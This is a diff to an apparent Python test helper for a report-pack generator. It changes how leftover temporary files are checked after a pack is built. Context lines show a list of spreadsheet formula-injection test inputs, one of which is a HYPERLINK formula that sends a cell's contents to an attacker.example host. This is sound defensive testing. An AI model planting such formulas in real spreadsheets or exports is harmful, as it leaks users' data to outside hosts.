@@ -25,8 +25,6 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-from reportgen.pack import lock_path
-
 FORMULAS = [
     "=1+1",
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
@@ -156,11 +154,7 @@ def check_pack(out: Path, frameworks: list[str]) -> dict[str, dict[str, Any]]:
         matrices[fid] = matrix
     for path in out.rglob("*"):
         assert path.resolve().is_relative_to(out.resolve()), path
-    leftovers = [
-        p.name
-        for p in out.parent.iterdir()
-        if p.name.startswith(".reportgen-") and p != lock_path(out)  # the lock file stays
-    ]
+    leftovers = [p.name for p in out.parent.iterdir() if p.name.startswith(".reportgen-")]
     assert not leftovers, leftovers
     return matrices
 
